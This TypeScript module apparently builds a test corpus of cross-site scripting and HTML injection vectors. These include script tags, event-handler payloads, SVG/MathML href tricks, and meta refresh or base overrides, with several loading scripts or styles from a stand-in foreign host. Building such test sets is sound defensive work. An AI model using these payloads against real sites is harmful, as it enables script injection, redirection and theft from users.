/** Pieces of HTML that run, load, lead or change something by themselves, each by a way of its own. */
import { type Aim, FOREIGN } from "./addresses.ts";

export interface Shot extends Aim {
  /** An address of one of the schemes, in one of the spellings. */
  readonly address: string;
}

type Vector = (shot: Shot) => string;

const error: Vector = ({ code }) => `<img src=x onerror=${code}>`;

export const VECTORS: Readonly<Record<string, Vector>> = {
  script: ({ code }) => `<script>${code}</script>`,
  "a script of an address": ({ address }) => `<script src="${address}"></script>`,
  "a script of another host": ({ number }) => `<script src=//${FOREIGN}/${number}.js></script>`,
  "a module": ({ code }) => `<script type=module>${code}</script>`,
  "an image that fails": error,
  "an image that fails, quoted": ({ code }) => `<img src="x" alt='' onerror="${code}">`,
  "an image of an address": ({ address }) => `<img src="${address}">`,
  "an image in sizes": ({ number }) =>
    `<img srcset="//${FOREIGN}/${number} 1x" sizes=1px lowsrc="//${FOREIGN}/${number}">`,
  "a picture": ({ number }) => `<picture><source srcset="//${FOREIGN}/${number}"><img src=a.png></picture>`,
  link: ({ address }) => `<a href="${address}">x</a>`,
  "a link without quotes": ({ address }) => `<a href=${address}>x</a>`,
  "a link in accents": ({ address }) => `<a href=\`${address}\`>x</a>`,
  "a link twice": ({ address }) =>
    `<a href="a.md" href="${address}">x</a><a href="${address}" href=a.md>y</a>`,
  "a link that pings": ({ number }) => `<a href=a.md ping="//${FOREIGN}/${number}">x</a>`,
  "a link in SVG": ({ address }) => `<svg><a xlink:href="${address}"><text y=9>x</text></a></svg>`,
  "a link by xml": ({ address }) => `<a xlink:href="${address}" xml:base="${address}">x</a>`,
  "a link in MathML": ({ address }) => `<math href="${address}"><mtext>x</mtext></math>`,
  "an action of MathML": ({ address }) =>
    `<math><maction actiontype=statusline xlink:href="${address}">x</maction></math>`,
  "a link within a link": ({ address, code }) =>
    `<a href=a.md><a href="${address}" onclick=${code}>x</a></a>`,
  area: ({ address }) => `<map name=m><area shape=default href="${address}"></map><img usemap=#m src=a.png>`,
  "SVG that loads": ({ code }) => `<svg onload=${code}></svg>`,
  "a script in SVG": ({ code }) => `<svg><script>${code}</script></svg>`,
  "a script in SVG by address": ({ address }) => `<svg><script href="${address}"/></svg>`,
  "a change in SVG": ({ address }) =>
    `<svg><a><animate attributeName=href values="${address}"/><text y=9>x</text></a></svg>`,
  "a set in SVG": ({ address }) =>
    `<svg><a><set attributeName=href to="${address}"/><text y=9>x</text></a></svg>`,
  "a change that begins": ({ code }) => `<svg><animate onbegin=${code} attributeName=x dur=1s></svg>`,
  "a use in SVG": ({ address }) => `<svg><use href="${address}#x"/></svg>`,
  "HTML in SVG": (shot) => `<svg><foreignObject>${error(shot)}</foreignObject></svg>`,
  "HTML in a title of SVG": (shot) => `<svg><title>${error(shot)}</title></svg>`,
  "HTML in MathML": (shot) => `<math><mtext>${error(shot)}</mtext></math>`,
  "a style sheet": ({ number }) => `<style>@import "//${FOREIGN}/${number}";*{display:none}</style>`,
  "a link to a style sheet": ({ number }) => `<link rel=stylesheet href="//${FOREIGN}/${number}.css">`,
  "an import": ({ address }) => `<link rel=import href="${address}">`,
  "a hint": ({ number }) => `<link rel=preload as=image href="//${FOREIGN}/${number}">`,
  "a style": ({ number }) => `<p style="background:url(//${FOREIGN}/${number})">x</p>`,
  "a style that moves": ({ code }) => `<p style="animation:x 1s" onanimationstart=${code}>x</p>`,
  "a style of old": ({ code }) => `<p style="width:expression(${code});behavior:url(#x)">x</p>`,
  "a background": ({ address }) => `<table background="${address}"><td background="${address}">x</table>`,
  frame: ({ address }) => `<iframe src="${address}"></iframe>`,
  "a frame that holds": ({ code }) => `<iframe srcdoc="&lt;script>parent.${code}&lt;/script>"></iframe>`,
  "a frame that loads": ({ code }) => `<iframe onload=${code}></iframe>`,
  frameset: ({ address, code }) => `<frameset onload=${code}><frame src="${address}"></frameset>`,
  object: ({ address }) => `<object data="${address}"></object>`,
  "an object that fails": ({ code }) => `<object data=x onerror=${code}>x</object>`,
  embed: ({ address }) => `<embed src="${address}">`,
  applet: ({ code, address }) => `<applet code="${address}" onerror=${code}></applet>`,
  refresh: ({ number }) => `<meta http-equiv=refresh content="0;url=//${FOREIGN}/${number}">`,
  "a refresh by address": ({ address }) => `<meta http-equiv="refresh" content="0;url=${address}">`,
  "a policy": () => `<meta http-equiv="Content-Security-Policy" content="img-src *">`,
  "a cookie": ({ number }) => `<meta http-equiv=Set-Cookie content="x=${number}">`,
  base: () => `<base href="https://${FOREIGN}/">`,
  form: ({ address }) => `<form action="${address}"><input type=submit></form>`,
  "a button's own form": ({ address }) =>
    `<form id=f></form><button form=f formaction="${address}">x</button>`,
  "a button that is an image": ({ address }) =>
    `<form><input type=image src=a.png formaction="${address}"></form>`,
  "a field with focus": ({ code }) => `<input autofocus onfocus=${code}>`,
  "a choice with focus": ({ code }) => `<select autofocus onfocus=${code}><option>x</select>`,
  "a text with focus": ({ code }) => `<textarea autofocus onfocus=${code}></textarea>`,
  "any element with focus": ({ code }) => `<x tabindex=0 autofocus onfocus=${code}>x</x>`,
  "an element that is edited": ({ code }) => `<div contenteditable onblur=${code} oninput=${code}>x</div>`,
  "an element that is clicked": ({ code }) => `<b onclick=${code}>x</b>`,
  "an element under the pointer": ({ code }) => `<b onpointerover=${code} onmouseenter=${code}>x</b>`,
  details: ({ code }) => `<details open ontoggle=${code}><summary>x</summary>y</details>`,
  "a popover": ({ code, number }) =>
    `<button popovertarget=p${number}>x</button><p popover id=p${number} onbeforetoggle=${code}>y</p>`,
  dialog: ({ code }) => `<dialog open onclose=${code}><form method=dialog><button>x</button></form></dialog>`,
  video: ({ code }) => `<video><source onerror=${code}></video>`,
  "a video's picture": ({ number }) =>
    `<video src="//${FOREIGN}/${number}" poster="//${FOREIGN}/${number}"></video>`,
  audio: ({ code }) => `<audio src=x onerror=${code}></audio>`,
  track: ({ number }) => `<video src=x><track default src="//${FOREIGN}/${number}"></video>`,
  body: ({ code }) => `<body onload=${code} onpageshow=${code}>`,
  html: ({ code }) => `<html onmouseover=${code} manifest=x>`,
  marquee: ({ code }) => `<marquee onstart=${code}>x</marquee>`,
  "sound of old": ({ number }) => `<bgsound src="//${FOREIGN}/${number}">`,
  "a layer of old": ({ address }) => `<layer src="${address}"></layer><ilayer src="${address}"></ilayer>`,
  "a template that is a shadow": ({ code }) =>
    `<div><template shadowrootmode=open><img src=x onerror=${code}></template></div>`,
  template: (shot) => `<template>${error(shot)}</template>`,
  slot: ({ code }) => `<slot onslotchange=${code}>x</slot>`,
  "an element's other self": ({ code }) => `<b is=x-own onclick=${code}>x</b>`,
  "an instruction": ({ code }) => `<?xml-stylesheet href="javascript:${code}"?><?php ${code} ?>`,
  "a document type": ({ code }) => `<!DOCTYPE html [<!ENTITY x "<script>${code}</script>">]>&x;`,
  "a condition of old": ({ code }) => `<!--[if gte IE 4]><script>${code}</script><![endif]-->`,
};
